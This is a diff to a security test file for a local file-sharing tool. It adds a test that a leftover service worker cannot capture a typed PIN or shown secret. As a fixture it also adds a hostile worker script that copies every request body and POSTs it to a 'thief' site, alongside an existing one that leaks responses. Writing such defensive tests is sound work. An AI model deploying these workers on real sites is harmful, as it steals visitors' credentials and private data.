@@ -3,6 +3,7 @@ import type { Page } from 'playwright-core';
 import { chromium } from 'playwright-core';
 import { describe, expect, onTestFinished, test } from 'vitest';
 import { serveOtherSite } from '../support/other-site.ts';
+import { PIN, WITH_PIN } from '../support/private-share.ts';
 import { startLocalShare } from '../support/visitor/local-share.ts';
 
 const SECRET = 'TOP SECRET';
@@ -16,6 +17,15 @@ const passingOn = (thief: string): string => `
     const response = await fetch(event.request);
     const text = await response.clone().text().catch(() => '');
     fetch('${thief}', { method: 'POST', mode: 'no-cors', body: event.request.url + ' ' + text });
+    return response;
+  })()));`;
+
+/** Tells another site whatever visitors send. */
+const listeningIn = (thief: string): string => `
+  addEventListener('fetch', (event) => event.respondWith((async () => {
+    const sent = await event.request.clone().text();
+    const response = await fetch(event.request);
+    fetch('${thief}', { method: 'POST', mode: 'no-cors', body: event.request.url + ' ' + sent });
     return response;
   })()));`;
 
@@ -113,6 +123,18 @@ describe('a worker that a shared site left', () => {
     expect(thief.received.join()).not.toContain(SECRET);
     expect(thief.received.filter((text) => text.includes('private.txt'))).toEqual([]);
     expect(await readLeft(page)).toEqual(NOTHING);
+  });
+
+  test('does not see the PIN that is typed to come in, nor what is shown then', async () => {
+    const page = await openPage();
+    const thief = await serveOtherSite({});
+    const port = await leaveWorker(page, listeningIn(thief.url));
+    await startLocalShare(PRIVATE, { port, access: WITH_PIN });
+    await page.goto(`http://localhost:${port}/`);
+    await page.getByLabel('PIN').pressSequentially(PIN);
+    await page.getByText(SECRET).waitFor();
+    expect(await readLeft(page)).toEqual(NOTHING);
+    expect(thief.received.join()).not.toMatch(new RegExp(`${PIN}|${SECRET}`));
   });
 
   test('is not handed a folder with an index page, which is a site by itself', async () => {
